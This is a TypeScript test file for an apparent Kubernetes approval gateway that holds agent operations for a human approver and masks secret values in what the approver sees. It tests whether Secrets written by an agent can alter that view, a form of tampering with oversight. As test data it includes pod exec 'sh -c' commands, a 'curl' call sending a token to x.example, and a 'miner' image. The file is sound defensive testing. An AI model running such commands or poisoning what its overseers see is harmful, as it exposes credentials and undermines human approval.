import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { Operation } from '../../../domain/api/rules.ts'
import type { SecretValue } from '../../../domain/mask/match/known-values.ts'
import { CALLER } from '../gateway-fixture.ts'
import { CANARY, heldOf, holdFixture } from './hold-fixture.ts'

type ClassifiedRequest = Parameters<typeof heldOf>[0]
type Fixture = ReturnType<typeof holdFixture>

/** Returns the operation that an approver sees, and the records of the wait. */
async function filedIn(fixture: Fixture, asked: ClassifiedRequest): Promise<Operation> {
  const waiting = fixture.hold(heldOf(asked).held)
  await expect.poll(() => fixture.stored.size, { interval: 1 }).toBe(1)
  fixture.decide('Denied', 'a reason that an approver types')
  await expect(waiting).rejects.toMatchObject({ code: 403 })
  return [...fixture.stored.values()][0]?.spec.operation as Operation
}
const said = ({ events }: Fixture) => events.map((event) => ('message' in event ? event.message : undefined))
const planted = (values: readonly string[]): SecretValue[] =>
  values.map((value, index) => ({ namespace: 'tenant', secret: 'words', key: `k${index}`, value: Buffer.from(value) }))

const name = fc.stringMatching(/^[a-z][a-z0-9]{3,12}(-[a-z0-9]{3,12}){1,3}$/)
const line = fc.stringMatching(/^[a-z]{2,8} [ -~]{6,40}$/)
const operations = fc
  .record({ name, namespace: name, line, label: name, kind: fc.integer({ min: 0, max: 4 }) })
  .map((parts): readonly [ClassifiedRequest, string[]] => {
    const below = `/api/v1/namespaces/${parts.namespace}`
    const words = [parts.name, parts.namespace, parts.line, parts.label, 'deployments', 'resourceVersion', 'deletecollection']
    switch (parts.kind) {
      case 0:
      return [{ path: `${below}/pods/${parts.name}/exec`, method: 'POST', query: new URLSearchParams([['command', 'sh'], ['command', '-c'], ['command', parts.line], ['container', parts.label]]) }, words] // prettier-ignore
      case 1:
        return [{ path: `${below}/pods/${parts.name}/portforward`, method: 'POST', query: new URLSearchParams({ ports: '5432' }) }, words]
      case 2:
        return [{ path: `${below}/configmaps`, method: 'DELETE', query: new URLSearchParams({ labelSelector: `app=${parts.label}` }) }, words]
      case 3:
        return [{ path: `${below}/configmaps/${parts.name}`, method: 'PATCH', contentType: 'application/merge-patch+json' }, words]
      default:
        return [{ path: `/apis/apps/v1/namespaces/${parts.namespace}/deployments/${parts.name}`, method: 'DELETE' }, words]
    }
  })

describe('what an approver sees of an operation', () => {
  it('does not depend on Secrets that agents write', async () => {
    await fc.assert(
      fc.asyncProperty(operations, async ([asked, words]) => {
        const poison = planted([...words, `/${words.join('/')}`, `sh -c '${words[2]}'`, 'a reason that an approver types'])
        const [before, behind] = [holdFixture(), holdFixture({ secrets: poison })]
        const [without, withPoison] = [await filedIn(before, asked), await filedIn(behind, asked)]
        expect({ ...withPoison, diff: '' }).toEqual({ ...without, diff: '' })
        expect(withPoison.path.startsWith(asked?.path ?? '')).toBe(true)
        expect(said(behind)).toEqual(said(before))
        expect(said(behind)).toContain('a reason that an approver types')
      }),
      { numRuns: 40 },
    )
  })

  it('hides only text in token form in commands and queries', async () => {
    const token = `ghp_${'a1B2c3D4e5'.repeat(4)}`
    const query = new URLSearchParams([['command', 'curl'], ['command', `https://x.example/?t=${token}`]]) // prettier-ignore
    const { path, summary } = await filedIn(holdFixture(), { method: 'POST', path: '/api/v1/namespaces/shop/pods/web/exec', query })
    expect(`${path} ${summary ?? ''}`).not.toContain(token)
    expect(path).toMatch(/^\/api\/v1\/namespaces\/shop\/pods\/web\/exec\?command=curl&command=https%3A%2F%2Fx\.example%2F%3Ft%3D/)
    expect(summary).toContain(': curl ')
  })
})

const image = 'registry.example/zq81-vv7-k4t9/miner:9'
const object = (note: string) => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'old', namespace: 'shop' }, data: { note } })
const update = { method: 'PUT', path: '/api/v1/namespaces/shop/configmaps/old' } as const

describe('in a diff', () => {
  it('a mask names the Secret that holds the value', async () => {
    const { diff } = await filedIn(holdFixture({ dryRun: { status: 200, body: object(`uses ${CANARY}`) } }), update)
    expect(diff).toMatch(/\+ {2}note: "?uses \[masked: secret shop\/db key password\]"?$/m)
    expect(diff).not.toContain(CANARY)
  })
  it('a value that an agent wrote to a Secret is shown and marked as such', async () => {
    const fixture = holdFixture({ dryRun: { status: 200, body: object(image) }, secrets: planted([image]) })
    const { asked } = heldOf({ method: 'POST', path: '/api/v1/namespaces/tenant/secrets' }).held
    const body = Buffer.from(JSON.stringify({ metadata: { name: 'words' }, stringData: { k0: image } }))
    fixture.written.take({ ...asked, caller: CALLER, body }, 201)
    const { diff } = await filedIn(fixture, update)
    expect(diff).toContain(`+  note: ${image}`)
    expect(diff).toContain(`\n# "${image}" is shown: it is the value of secret tenant/words key k0, which "oidc:agent" wrote`)
  })
})
